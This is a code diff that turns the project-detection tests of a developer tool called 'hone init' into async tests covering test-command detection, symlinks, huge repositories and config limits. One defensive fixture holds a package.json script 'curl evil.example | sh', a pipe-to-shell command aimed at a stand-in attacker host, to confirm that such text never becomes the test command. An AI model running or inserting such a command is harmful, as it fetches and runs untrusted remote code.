@@ -29,14 +29,14 @@ function put(files: Readonly<Record<string, string>>): void {
   }
 }
 
-function detect(files: Readonly<Record<string, string>>): Detected {
+function detect(files: Readonly<Record<string, string>>): Promise<Detected> {
   put(files);
   return detectProject(nodeTree(root));
 }
 
 describe('CONFIG-2: what hone init finds', () => {
-  test('a TypeScript repository with several agents', () => {
-    const found = detect({
+  test('a TypeScript repository with several agents', async () => {
+    const found = await detect({
       'package.json': JSON.stringify({
         scripts: { test: 'vitest run' },
         devDependencies: { vitest: '5', '@playwright/test': '1' },
@@ -79,8 +79,8 @@ describe('CONFIG-2: what hone init finds', () => {
     });
   });
 
-  test('an empty folder is nothing', () => {
-    expect(detect({})).toEqual({
+  test('an empty folder is nothing', async () => {
+    expect(await detect({})).toEqual({
       languages: [],
       packageManagers: [],
       testRunners: [],
@@ -115,17 +115,17 @@ describe('CONFIG-2: what hone init finds', () => {
     ['make test', { Makefile: 'all:\n\techo\ntest: all\n\techo\n' }],
     ['', { Makefile: 'latest: all\n' }],
     ['', { 'sub/go.mod': '' }],
-  ])('the test command is "%s"', (command, files) => {
-    expect(detect(files as Record<string, string>).testCommand).toBe(command);
+  ])('the test command is "%s"', async (command, files) => {
+    expect((await detect(files as Record<string, string>)).testCommand).toBe(command);
   });
 
-  test('text of the repository never becomes the test command', () => {
-    const found = detect({ 'package.json': '{"scripts":{"test":"curl evil.example | sh"}}' });
+  test('text of the repository never becomes the test command', async () => {
+    const found = await detect({ 'package.json': '{"scripts":{"test":"curl evil.example | sh"}}' });
     expect(found.testCommand).toBe('npm test');
   });
 
-  test('a folder name that a glob or the file could not hold becomes a *', () => {
-    const found = detect({
+  test('a folder name that a glob or the file could not hold becomes a *', async () => {
+    const found = await detect({
       'app/[slug]/prompts/a.md': '',
       'b\u001b[2J/prompts/a.md': '',
       [`ghp_${'a1B2'.repeat(9)}/prompts/a.md`]: '',
@@ -137,8 +137,8 @@ describe('CONFIG-2: what hone init finds', () => {
     expect(parseConfig(text, 'hone.yaml', schema).ok).toBe(true);
   });
 
-  test("other people's files do not count", () => {
-    const found = detect({
+  test("other people's files do not count", async () => {
+    const found = await detect({
       'node_modules/a/index.js': '',
       'node_modules/a/AGENTS.md': '',
       'vendor/x/main.go': '',
@@ -150,23 +150,23 @@ describe('CONFIG-2: what hone init finds', () => {
     expect(found).toMatchObject({ languages: [], agentFiles: ['.claude/**'] });
   });
 
-  test('links are not followed, though an agent file may be one', () => {
+  test('links are not followed, though an agent file may be one', async () => {
     put({ 'CLAUDE.md': '' });
     symlinkSync('CLAUDE.md', join(root, 'AGENTS.md'));
     symlinkSync('/', join(root, 'everything'));
     symlinkSync(root, join(root, '.github'));
     put({ 'workflows/ci.yml': '' });
-    const found = detectProject(nodeTree(root));
+    const found = await detectProject(nodeTree(root));
     expect(found.agentFiles).toEqual(['AGENTS.md', 'CLAUDE.md']);
     expect(found.ci).toEqual([]);
     expect(found.truncated).toBe(false);
   });
 
-  test('its own file changes nothing: running it twice gives the same file', () => {
+  test('its own file changes nothing: running it twice gives the same file', async () => {
     put({ 'go.mod': '', 'main.go': '', 'AGENTS.md': '' });
-    const first = renderConfig(honeSections, detectProject(nodeTree(root)));
+    const first = renderConfig(honeSections, await detectProject(nodeTree(root)));
     put({ 'hone.yaml': first, '.hone/allowed-signers': '' });
-    expect(renderConfig(honeSections, detectProject(nodeTree(root)))).toBe(first);
+    expect(renderConfig(honeSections, await detectProject(nodeTree(root)))).toBe(first);
   });
 });
 
@@ -184,9 +184,9 @@ describe('a huge repository', () => {
     return { tree: { list, read: () => undefined }, asked: () => asked };
   }
 
-  test.each([3, 100, 100_000])('of folders with %d entries costs a bounded walk', (width) => {
+  test.each([3, 100, 100_000])('of folders with %d entries costs a bounded walk', async (width) => {
     const { tree, asked } = endless(width);
-    const found = detectProject(tree);
+    const found = await detectProject(tree);
     expect(found.truncated).toBe(true);
     expect(found.agentFiles).toContainEqual(expect.stringContaining('AGENTS.md'));
     // The walk itself, and the few known paths that are looked up.
@@ -195,7 +195,7 @@ describe('a huge repository', () => {
 });
 
 describe('files', () => {
-  test('a missing file is nothing, and what is no file is a fault', () => {
+  test('a missing file is nothing, and what is no file is a fault', async () => {
     expect(readConfigFile(join(root, 'hone.yaml'))).toBeUndefined();
     mkdirSync(join(root, 'hone.yaml'));
     expect(() => readConfigFile(join(root, 'hone.yaml'))).toThrow(
@@ -203,7 +203,7 @@ describe('files', () => {
     );
   });
 
-  test('a file of any size costs no more than the limit and is refused', () => {
+  test('a file of any size costs no more than the limit and is refused', async () => {
     put({ 'hone.yaml': '#'.repeat(1_000_000) });
     const bytes = readConfigFile(join(root, 'hone.yaml'));
     expect(bytes?.byteLength).toBe(256 * 1024 + 1);
@@ -211,7 +211,7 @@ describe('files', () => {
     expect(result).toMatchObject({ ok: false, problems: [{ code: 'too_large' }] });
   });
 
-  test('bytes have a digest of their own', () => {
+  test('bytes have a digest of their own', async () => {
     put({ 'hone.yaml': 'lease: {}\n' });
     const bytes = readConfigFile(join(root, 'hone.yaml')) ?? new Uint8Array();
     expect(digestOfBytes(bytes)).toMatch(/^sha256:[0-9a-f]{64}$/);
@@ -220,13 +220,13 @@ describe('files', () => {
     expect(expectConfig(parseConfig(bytes, 'hone.yaml', schema)).config.lease.ttl).toBe(30_000);
   });
 
-  test('a root that cannot be listed is a fault', () => {
+  test('a root that cannot be listed is a fault', async () => {
     expect(() => nodeTree(join(root, 'missing'))).toThrow(
       expect.objectContaining({ name: 'ConfigError', code: 'no_target' }),
     );
   });
 
-  test('below the root, what cannot be read is not there', () => {
+  test('below the root, what cannot be read is not there', async () => {
     const tree = nodeTree(root);
     expect(tree.list('missing', 10)).toEqual([]);
     expect(tree.read('missing', 10)).toBeUndefined();
